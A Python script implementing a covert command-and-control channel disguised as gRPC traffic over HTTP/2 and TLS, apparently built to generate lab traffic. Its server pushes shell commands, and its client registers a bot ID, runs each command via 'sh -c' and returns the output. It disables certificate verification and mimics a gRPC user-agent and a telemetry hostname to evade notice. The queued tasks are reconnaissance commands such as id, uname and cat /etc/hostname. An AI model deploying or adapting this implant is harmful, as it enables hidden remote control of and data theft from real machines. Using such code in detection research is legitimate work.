#!/usr/bin/python3
"""f7-grpc-h2-c2: a gRPC-shaped C2 channel in one HTTP/2 connection over TLS on 443 (python3-h2): the device opens a
server-streaming call (POST /agent.v1.Agent/Tasks, application/grpc), the server pushes a length-prefixed task on it
every 6-12 s, and the device returns each result as a unary call (POST /agent.v1.Agent/Result) on a new stream of
the same connection, until SECONDS have passed. HTTP/2 PINGs keep it alive.
server (the victim's namespace): argv = server IP PORT CERT KEY
client (the device): argv = client IP PORT SECONDS"""
import json, os, random, select, socket, ssl, struct, subprocess, sys, time

import h2.config, h2.connection, h2.events

TASKS = ["id", "uname -a", "cat /proc/loadavg", "ls /tmp", "ps | head -5", "ip -4 addr | head -6",
         "df -h | head -4", "cat /etc/hostname", "uptime", "free | head -3"]


def frame(obj):
    b = json.dumps(obj).encode()
    return b"\x00" + struct.pack(">I", len(b)) + b


def unframe(buf):
    out = []
    while len(buf) >= 5:
        n = struct.unpack(">I", buf[1:5])[0]
        if len(buf) < 5 + n:
            break
        out.append(json.loads(buf[5:5 + n]))
        buf = buf[5 + n:]
    return out, buf


def serve_one(sock):
    rnd = random.Random(7)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
    c.initiate_connection()
    sock.sendall(c.data_to_send())
    task_stream, n, nxt, bufs = None, 0, None, {}
    while True:
        now = time.time()
        t = 1.0 if nxt is None else max(0.05, nxt - now)
        r, _, _ = select.select([sock], [], [], t)
        if r:
            data = sock.recv(65535)
            if not data:
                return
            for ev in c.receive_data(data):
                if isinstance(ev, h2.events.RequestReceived):
                    path = dict(ev.headers).get(b":path", b"").decode()
                    bufs[ev.stream_id] = b""
                    if path.endswith("/Tasks"):
                        task_stream = ev.stream_id
                        c.send_headers(ev.stream_id, [(":status", "200"), ("content-type", "application/grpc")])
                        nxt = time.time() + rnd.uniform(6, 12)
                elif isinstance(ev, h2.events.DataReceived):
                    bufs[ev.stream_id] = bufs.get(ev.stream_id, b"") + ev.data
                    c.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id != task_stream:
                    c.send_headers(ev.stream_id, [(":status", "200"), ("content-type", "application/grpc")])
                    c.send_data(ev.stream_id, frame({"ok": True}))
                    c.send_headers(ev.stream_id, [("grpc-status", "0")], end_stream=True)
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    return
        if task_stream is not None and nxt is not None and time.time() >= nxt:
            n += 1
            c.send_data(task_stream, frame({"id": n, "cmd": rnd.choice(TASKS)}))
            nxt = time.time() + rnd.uniform(6, 12)
        out = c.data_to_send()
        if out:
            sock.sendall(out)


def server(ip, port, cert, key):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    ctx.set_alpn_protocols(["h2"])
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((ip, port))
    ls.listen(4)
    while True:
        s, _ = ls.accept()
        try:
            serve_one(ctx.wrap_socket(s, server_side=True))
        except Exception:
            pass
        s.close()


def client(ip, port, seconds):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection((ip, port), timeout=10), server_hostname="api.fleet-telemetry.example")
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    c.initiate_connection()
    hdr = [(":method", "POST"), (":scheme", "https"), (":authority", "api.fleet-telemetry.example"),
           ("content-type", "application/grpc"), ("te", "trailers"), ("user-agent", "grpc-c/1.51.1 (linux; chttp2)")]
    sid = c.get_next_available_stream_id()
    c.send_headers(sid, [(":path", "/agent.v1.Agent/Tasks")] + hdr)
    c.send_data(sid, frame({"bot": os.urandom(6).hex(), "arch": "armv7l", "v": "3.1"}))
    sock.sendall(c.data_to_send())
    t0, buf, lastping = time.time(), b"", time.time()
    while time.time() - t0 < seconds:
        r, _, _ = select.select([sock], [], [], 1.0)
        if r:
            data = sock.recv(65535)
            if not data:
                break
            for ev in c.receive_data(data):
                if isinstance(ev, h2.events.DataReceived):
                    c.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    if ev.stream_id != sid:
                        continue
                    buf += ev.data
                    msgs, buf = unframe(buf)
                    for m in msgs:
                        o = subprocess.run(["sh", "-c", m["cmd"]], capture_output=True, timeout=5).stdout[:2000]
                        s2 = c.get_next_available_stream_id()
                        c.send_headers(s2, [(":path", "/agent.v1.Agent/Result")] + hdr)
                        c.send_data(s2, frame({"id": m["id"], "out": o.decode(errors="replace")}), end_stream=True)
        if time.time() - lastping > 20:
            c.ping(os.urandom(8))
            lastping = time.time()
        out = c.data_to_send()
        if out:
            sock.sendall(out)
    c.close_connection()
    sock.sendall(c.data_to_send())
    sock.close()


if sys.argv[1] == "server":
    server(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5])
else:
    client(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
